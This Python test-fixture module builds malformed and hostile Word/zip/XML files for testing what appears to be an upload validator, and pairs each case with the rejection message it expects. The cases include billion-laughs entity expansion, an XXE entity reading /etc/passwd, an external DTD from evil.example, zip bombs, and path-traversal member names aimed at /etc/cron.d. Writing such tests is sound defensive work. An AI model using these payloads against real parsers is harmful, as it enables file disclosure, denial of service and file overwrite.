"""Files that are no Word files, and zip files and XML that lie, swell or hide something."""

from __future__ import annotations

import zlib
from collections.abc import Callable

from making import (
    GOOD,
    HEAD,
    OLE,
    WORD,
    Attack,
    body,
    letter,
    parts,
    with_flag,
    with_members,
    with_method,
    with_size,
    zipped,
)

ODT = b"application/vnd.oasis.opendocument.text"


def _typed(main: str) -> bytes:
    return zipped(parts(GOOD, main=main))


def _entities(depth: int) -> bytes:
    lines = ['<!ENTITY a0 "haha">']
    lines += [f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, depth)]
    document = body(f"&a{depth - 1};").replace(HEAD, f"{HEAD}<!DOCTYPE x [{''.join(lines)}]>")
    return zipped(parts() | {"word/document.xml": document.encode()})


def _file_entity() -> bytes:
    kind = '<!DOCTYPE x [<!ENTITY passwd SYSTEM "file:///etc/passwd">]>'
    document = body("&passwd;").replace(HEAD, HEAD + kind)
    return zipped(parts() | {"word/document.xml": document.encode()})


def _outside_type() -> bytes:
    document = body(GOOD).replace(HEAD, f'{HEAD}<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">')
    return zipped(parts() | {"word/document.xml": document.encode()})


def _wide_entity() -> bytes:
    document = _doctyped().decode().encode("utf-16")
    return zipped(parts() | {"word/document.xml": document})


def _doctyped() -> bytes:
    document = body("&a;").replace(HEAD, '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>')
    return document.encode()


def _deep(levels: int) -> bytes:
    return letter("<w:p>" + "<w:sdt>" * levels + "</w:sdt>" * levels + "</w:p>")


def _stuffed(size: int) -> bytes:
    return zipped(parts(GOOD) | {"word/media/image1.png": bytes(size)})


def _overlapping() -> bytes:
    """Many members that unpack the same bytes, each large."""
    same = zlib.compress(bytes(1_000_000), 9)
    return zipped(
        parts(GOOD)
        | {f"word/media/i{n}.png": bytes(1_000_000) for n in range(60)}
        | {"word/media/same.bin": same}
    )


def _turned(data: bytes) -> bytes:
    start = data.index(b"word/document.xml") + 60
    return data[:start] + bytes([data[start] ^ 0xFF]) + data[start + 1 :]


def _named(*names: str) -> Callable[[], bytes]:
    return lambda: with_members(letter(GOOD), *((name, b"x") for name in names))


FILES: dict[str, Attack] = {
    "empty": Attack(lambda: b"", "empty"),
    "text": Attack(lambda: b"Dear {{ interviewer }}", "not a Word file"),
    "a few bytes": Attack(lambda: b"PK\x03\x04", "damaged"),
    "cut off": Attack(lambda: letter(GOOD)[:-200], "damaged"),
    "cut in the middle": Attack(lambda: letter(GOOD)[:400], "damaged"),
    "the end of one alone": Attack(lambda: letter(GOOD)[-300:], "not a Word file"),
    "a bit turned": Attack(lambda: _turned(letter(GOOD)), "damaged"),
    "something before it": Attack(lambda: b"#!/bin/sh\n" + letter(GOOD), "not a Word file"),
    "a program": Attack(lambda: b"MZ\x90\x00" + bytes(200), "a program"),
    "a pdf renamed": Attack(lambda: b"%PDF-1.7\n" + bytes(200), "a PDF"),
    "a picture renamed": Attack(lambda: b"\x89PNG\r\n\x1a\n" + bytes(200), "a picture"),
    "rich text renamed": Attack(lambda: b"{\\rtf1 hello}", "Rich Text"),
    "a web page renamed": Attack(lambda: b"\xef\xbb\xbf<html><body>x</body></html>", "a web page"),
    "an old doc": Attack(lambda: OLE + bytes(3000), "old Word file"),
    "encrypted by Word": Attack(
        lambda: OLE + bytes(500) + "EncryptedPackage".encode("utf-16-le") + bytes(500), "password"
    ),
    "encrypted by zip": Attack(lambda: with_flag(letter(GOOD), 1), "password"),
    "packed otherwise": Attack(lambda: with_method(letter(GOOD), 12), "packed"),
    "packed in an unknown way": Attack(lambda: with_method(letter(GOOD), 97), "packed"),
    "an odt": Attack(lambda: zipped({"mimetype": ODT, "content.xml": b"<x/>"}), "OpenDocument"),
    "a zip of pictures": Attack(lambda: zipped({"a.png": b"x"}), "a zip file, but not"),
    "a zip with types alone": Attack(
        lambda: zipped({"[Content_Types].xml": b"<x/>", "_rels/.rels": b"<x/>"}), "but not"
    ),
    "a dotx": Attack(lambda: _typed(f"{WORD}template.main+xml"), ".dotx"),
    "a docm": Attack(
        lambda: _typed("application/vnd.ms-word.document.macroEnabled.main+xml"), "docm"
    ),
    "a dotm": Attack(
        lambda: _typed("application/vnd.ms-word.template.macroEnabledTemplate.main+xml"), "dotm"
    ),
    "a spreadsheet": Attack(
        lambda: _typed(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
        ),
        "a spreadsheet",
    ),
    "a presentation": Attack(
        lambda: _typed(
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
        ),
        "a presentation",
    ),
    "no type for the letter": Attack(lambda: _typed("application/xml"), "not a Word file"),
}

ZIPS: dict[str, Attack] = {
    "larger than allowed": Attack(lambda: letter(GOOD) + bytes(6_000_000), "larger than"),
    "unpacks to much": Attack(lambda: _stuffed(60_000_000), "unpacks to more"),
    "unpacks to far more than it has": Attack(lambda: _stuffed(20_000_000), "far more than"),
    "many large members": Attack(_overlapping, "unpacks to more"),
    "a zip in a zip": Attack(
        lambda: zipped(parts(GOOD) | {"word/media/image1.png": _stuffed(30_000_000)}),
        "another program",
    ),
    "two thousand members": Attack(_named(*(f"word/m/{n}.xml" for n in range(2000))), "more than"),
    "forty thousand members": Attack(_named(*(f"m/{n}" for n in range(40_000))), "more than"),
    "a letter of eight megabytes": Attack(lambda: letter("x" * 8_000_000), "MB of text"),
    "three hundred thousand attributes": Attack(
        lambda: letter("<w:p " + " ".join(f"w:a{n}='x'" for n in range(300_000)) + "/>"),
        "more in it than",
    ),
    "a million elements": Attack(lambda: letter("<w:p/>" * 700_000), "more in it than"),
    "less in the list than there is": Attack(
        lambda: with_size(letter(GOOD), "word/document.xml", 100, own=True, listed=True),
        "isn't what",
    ),
    "more in the list than there is": Attack(
        lambda: with_size(letter(GOOD), "word/document.xml", 9000, own=True, listed=True),
        "isn't what",
    ),
    "two sizes": Attack(
        lambda: with_size(letter(GOOD), "word/document.xml", 100, own=True, listed=False),
        "isn't what",
    ),
    "four gigabytes by its list": Attack(
        lambda: with_size(letter(GOOD), "word/document.xml", 0xFFFFFFF0, own=True, listed=True),
        "unpacks to more",
    ),
    "a member twice": Attack(_named("word/document.xml"), "twice"),
    "a member twice, in capitals": Attack(_named("WORD/DOCUMENT.XML"), "twice"),
    "a path upwards": Attack(_named("../../../etc/cron.d/x"), "a name that no"),
    "a path upwards inside": Attack(_named("word/../../x"), "a name that no"),
    "an absolute path": Attack(_named("/etc/passwd"), "a name that no"),
    "a drive": Attack(_named("C:\\Windows\\x.dll"), "a name that no"),
    "a backslash": Attack(_named("..\\x"), "a name that no"),
    "a name with a NUL": Attack(_named("word/x.xml\x00.png"), "a name that no"),
    "a name with an escape": Attack(_named("word/\x1b[2Jx"), "a name that no"),
    "no name": Attack(_named(""), "a name that no"),
    "a very long name": Attack(_named("a" * 3000), "a name that no"),
}

XML: dict[str, Attack] = {
    "entities in entities": Attack(lambda: _entities(9), "XML entities"),
    "an entity that reads a file": Attack(_file_entity, "XML entities"),
    "a document type elsewhere": Attack(_outside_type, "XML entities"),
    "entities in UTF-16": Attack(_wide_entity, "XML entities"),
    "entities in the types": Attack(
        lambda: zipped(parts(GOOD) | {"[Content_Types].xml": _doctyped()}), "XML entities"
    ),
    "entities in the links": Attack(
        lambda: zipped(parts(GOOD) | {"word/_rels/document.xml.rels": _doctyped()}), "XML entities"
    ),
    "entities in a member of no type": Attack(
        lambda: zipped(parts(GOOD) | {"word/media/x.png": _doctyped()}), "XML entities"
    ),
    "nested ten thousand deep": Attack(lambda: _deep(10_000), "nested"),
    "nested three hundred deep": Attack(lambda: _deep(300), "nested"),
    "XML that does not end": Attack(
        lambda: zipped(parts() | {"word/document.xml": body(GOOD)[:-20].encode()}), "damaged"
    ),
    "XML in letters that read in two ways": Attack(
        lambda: zipped(
            parts() | {"word/document.xml": body(GOOD).replace("UTF-8", "cp037").encode()}
        ),
        "unknown encoding",
    ),
    "XML in UTF-16 without a mark": Attack(
        lambda: zipped(
            parts()
            | {"word/document.xml": body("筻").replace("UTF-8", "UTF-16").encode("utf-16-le")}
        ),
        "unknown encoding",
    ),
    "XML in unknown letters": Attack(
        lambda: zipped(
            parts() | {"word/document.xml": body(GOOD).replace("UTF-8", "EBCDIC-9").encode()}
        ),
        "unknown encoding",
    ),
}
